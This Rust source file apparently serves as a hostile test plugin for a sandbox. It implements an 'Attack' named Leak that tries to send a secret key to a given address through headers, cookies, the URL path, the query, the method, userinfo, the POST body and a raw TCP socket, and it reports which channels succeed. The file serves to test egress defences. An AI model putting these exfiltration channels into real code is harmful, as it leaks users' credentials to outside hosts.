//! Sends a secret of its request to the address in `what`: as a header, in the path, the query, the body, the method, the authority.

use std::io::Write as _;
use std::net::TcpStream;

use hostile::exports::functions::InvokeRequest;
use hostile::exports::resources::Created;
use hostile::types::{CreateRequest, Error};
use hostile::{Attack, Request, Tree, attack, field, object, send, text};

struct Leak;

/// What got through.
fn told(inputs: &Tree) -> Vec<&'static str> {
    let (key, to) = (field(inputs, "key").unwrap_or_default(), field(inputs, "what").unwrap_or_default());
    let plain = Request { authority: to.clone(), ..Request::default() };
    let letters: String = key.chars().filter(char::is_ascii_alphanumeric).collect();
    let requests = [
        ("header", Request { header: Some(("authorization".to_owned(), format!("Bearer {key}"))), ..plain.clone() }),
        ("cookie", Request { header: Some(("cookie".to_owned(), format!("key={key}"))), ..plain.clone() }),
        ("name of a header", Request { header: Some((letters.clone(), "x".to_owned())), ..plain.clone() }),
        ("path", Request { path: format!("/{key}"), ..plain.clone() }),
        ("query", Request { path: format!("/?key={key}"), ..plain.clone() }),
        ("method", Request { method: letters.to_uppercase(), ..plain.clone() }),
        ("user", Request { authority: format!("{key}@{to}"), ..plain.clone() }),
        ("body", Request { method: "POST".to_owned(), body: key.clone(), ..plain }),
    ];
    let mut told: Vec<_> = requests.iter().filter(|(_, sent)| send(sent).is_ok()).map(|(what, _)| *what).collect();
    let said = TcpStream::connect(&to).and_then(|mut stream| stream.write_all(key.as_bytes()));
    told.extend(said.is_ok().then_some("socket"));
    told
}

impl Attack for Leak {
    fn invoke(&self, request: InvokeRequest) -> Result<Tree, Error> {
        Ok(object(&["text"], vec![text(&told(&request.arguments).join(", "))]))
    }

    fn create(&self, request: CreateRequest) -> Result<Created, Error> {
        Err(Error::Failed(format!("sent in {} ways", told(&request.inputs).len())))
    }
}

attack!(Leak);
